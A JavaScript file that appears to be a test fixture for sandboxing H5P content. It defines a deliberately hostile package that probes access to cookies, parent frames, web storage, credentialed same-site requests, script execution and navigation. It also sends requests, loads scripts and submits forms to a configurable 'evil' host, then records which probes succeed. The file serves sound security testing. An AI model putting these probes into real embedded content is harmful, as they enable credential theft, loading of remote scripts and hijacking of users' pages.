// The library of a hostile package: tries what it is told to, and notes what it reached.
H5P.Hostile = function (params) {
  const { evil, names } = params;
  const away = (name) => `${evil}/${name}`;
  const settled = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
  const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
  const probes = {
    cookie: () => document.cookie.includes("csrftoken"),
    "parent-document": () => parent.document.title.length > 0,
    "parent-location": () => parent.location.href.length > 0,
    "parent-script": () => typeof parent.eval("1") === "number",
    "frame-element": () => window.frameElement !== null,
    "local-storage": () => localStorage.getItem("secret") === "the site's",
    "session-storage": () => sessionStorage.getItem("secret") === "the site's",
    "indexed-db": () =>
      new Promise((done, fail) => {
        const asked = indexedDB.open("x");
        asked.onsuccess = () => done(true);
        asked.onerror = fail;
      }),
    caches: async () => Boolean(await caches.open("x")),
    "own-page-fetch": async () => (await (await fetch("/my/", { credentials: "include" })).text()).length > 0,
    "own-page-xhr": () =>
      new Promise((done, fail) => {
        const asked = new XMLHttpRequest();
        asked.open("GET", "/my/profile/");
        asked.withCredentials = true;
        asked.onload = () => done(asked.responseText.length > 0);
        asked.onerror = fail;
        asked.send();
      }),
    "own-page-frame": async () => {
      const frame = add("iframe", { src: "/healthz/" });
      await settled(600);
      return frame.contentDocument.body.textContent.length > 0;
    },
    "service-worker": async () => Boolean(await navigator.serviceWorker.register("/static/js/print.js")),
    worker: () =>
      new Promise((done, fail) => {
        const made = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        made.onmessage = () => done(true);
        made.onerror = fail;
      }),
    eval: () => (0, eval)("true"),
    function: () => new Function("return true")(),
    "inline-script": () => {
      add("script", { textContent: "window.ranInline = true" });
      return window.ranInline === true;
    },
    popup: () => window.open(away("popup")) !== null,
    alert: () => {
      const asked = performance.now();
      return window.confirm("x") || performance.now() - asked > 50;
    },
    fullscreen: () => document.fullscreenEnabled === true,
    webrtc: () => Boolean(new RTCPeerConnection()),
    // These reach the other host, or not: its log tells.
    fetch: () => void fetch(away("fetch"), { mode: "no-cors" }),
    beacon: () => void navigator.sendBeacon(away("beacon"), "x"),
    image: () => void (new Image().src = away("image")),
    "event-source": () => void new EventSource(away("event-source")),
    "other-script": () => void add("script", { src: away("other-script") }),
    style: () => void add("link", { rel: "stylesheet", href: away("style") }),
    background: () => void (document.body.style.background = `url(${away("background")})`),
    font: () => void new FontFace("x", `url(${away("font")})`).load(),
    audio: () => void (new Audio(away("audio")).play()),
    "other-frame": () => void add("iframe", { src: away("other-frame") }),
    object: () => void add("object", { data: away("object") }),
    form: () => {
      const form = add("form", { action: away("form"), method: "post", target: "_self" });
      form.submit();
    },
    "top-navigation": () => void (top.location = away("top-navigation")),
    "own-navigation": () => void (location = away("own-navigation")),
    "meta-refresh": () => {
      const meta = add("meta", { httpEquiv: "refresh", content: `0; url=${away("meta-refresh")}` });
      document.head.append(meta);
    },
  };
  this.attach = async () => {
    const reached = [];
    for (const name of names) {
      try {
        const answer = await Promise.race([probes[name](), settled(5000)]);
        if (answer === true) reached.push(name);
      } catch {
        // kept away from it
      }
    }
    document.body.dataset.reached = JSON.stringify(reached);
  };
};
